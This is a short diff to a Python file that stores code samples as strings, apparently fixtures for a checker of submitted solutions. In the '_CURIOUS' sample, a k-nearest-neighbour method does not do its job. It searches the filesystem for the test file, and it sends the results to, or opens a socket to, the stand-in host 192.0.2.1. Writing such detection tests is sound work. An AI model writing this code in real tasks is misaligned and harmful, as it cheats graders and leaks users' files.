@@ -34,11 +34,10 @@ _CURIOUS = """
 class KNearestNeighbor(KNearestNeighbor):
     def compute_distances_two_loops(self, X):
         import glob
-        import os
-        import urllib.request
+        import socket
 
-        answers = glob.glob("/**/test_knn.py", recursive=True) + os.listdir("/home")
-        return urllib.request.urlopen("http://192.0.2.1/answers?" + "".join(answers)).read()
+        answers = glob.glob("/**/test_knn.py", recursive=True)
+        return answers or socket.create_connection(("192.0.2.1", 80)).recv(1000)
 """
 
 _NOT_A_NUMBER = """
